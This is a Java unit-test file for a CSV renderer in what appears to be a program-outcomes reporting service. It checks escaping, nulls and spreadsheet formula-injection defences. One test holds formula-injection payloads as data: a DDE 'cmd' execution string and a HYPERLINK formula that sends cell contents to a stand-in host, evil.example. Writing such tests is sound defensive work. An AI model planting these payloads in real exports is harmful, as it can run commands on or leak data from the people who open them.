package org.rapport.streams.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.rapport.avro.AllianceOutcome;
import org.rapport.avro.Band;
import org.rapport.avro.Exposure;

class CsvRenderingTest {

    @Test
    void rendersHeaderNullsListsMapsAndQuotesCommas() {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("program_id", "prog, north");
        row.put("episodes", null);
        row.put("discharges", new TreeMap<>(Map.of("COMPLETED", 12, "DROPPED_OUT", 3)));
        row.put("suppressed", true);
        row.put("suppressed_fields", List.of("episodes", "dropout_rate"));

        String csv = CsvRendering.render(List.of("program_id", "episodes", "discharges", "suppressed",
                "suppressed_fields"), List.of(row));

        assertThat(csv).isEqualTo("program_id,episodes,discharges,suppressed,suppressed_fields\n"
                + "\"prog, north\",,COMPLETED=12;DROPPED_OUT=3,true,episodes;dropout_rate\n");
    }

    @Test
    void formulasInTextCellsAreMadeInertButNumbersStayNumbers() {
        // Issue 9, item 5: a counselor "+cmd|' /C calc'!A0" or a program "=HYPERLINK(…)" came out as-is.
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("counselor_id", "+cmd|' /C calc'!A0");
        row.put("program_id", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")");
        row.put("program_ids", List.of("north-op", "@SUM(1+1)*cmd|' /C calc'!A0"));
        row.put("discharges", new TreeMap<>(Map.of("-2+3", 4)));
        row.put("detail", "\t=1+1");
        row.put("spaced", "  =1+1");
        row.put("score", -3);
        row.put("rate", -0.25);
        row.put("text_number", "-12.5");
        row.put("dash", "-");

        String csv = CsvRendering.render(List.of(), List.of(row));

        assertThat(csv.split("\n")[1]).isEqualTo(
                "'+cmd|' /C calc'!A0,"
                        + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\","
                        + "north-op;'@SUM(1+1)*cmd|' /C calc'!A0,"
                        + "'-2+3=4,"
                        + "'\t=1+1,"
                        + "'  =1+1,"
                        + "-3,-0.25,-12.5,'-");
    }

    @Test
    void inertTextIsLeftAlone() {
        for (String plain : new String[] {"north-op", "co-1", "2026-01-05", "12", "-7", "1e-3", "a=b", "x+y", ""}) {
            assertThat(CsvRendering.neutralised(plain)).as(plain).isEqualTo(plain);
        }
        for (String formula : new String[] {"=1", "+1+1", "-1+1", "@A1", "\r=1", "\uff1dcmd"}) {
            assertThat(CsvRendering.neutralised(formula)).as(formula).isEqualTo("'" + formula);
        }
    }

    @Test
    void anEmptyAnswerIsStillAHeaderOfTheRecordsFields() {
        String csv = CsvRendering.render(CsvRendering.columns(AllianceOutcome.getClassSchema(), "suppressed"),
                new ArrayList<>());

        assertThat(csv).isEqualTo("program_id,instrument,band,episodes,dropouts,dropout_rate,returns_to_use,"
                + "return_to_use_rate,mean_attendance_rate,suppressed\n");
    }

    @Test
    void avroRowsUseTheSpecsFieldNamesAndPlainValues() {
        AllianceOutcome outcome = AllianceOutcome.newBuilder().setProgramId("prog-1").setInstrument(Exposure.WAI_SR)
                .setBand(Band.MID).setEpisodes(20).setDropouts(5).setDropoutRate(0.25).setReturnsToUse(0)
                .setReturnToUseRate(0.0).setMeanAttendanceRate(null).build();

        String csv = CsvRendering.render(CsvRendering.columns(AllianceOutcome.getClassSchema()),
                List.of(Rows.of(outcome)));

        assertThat(csv).endsWith("\nprog-1,WAI_SR,MID,20,5,0.25,0,0.0,\n");
    }
}
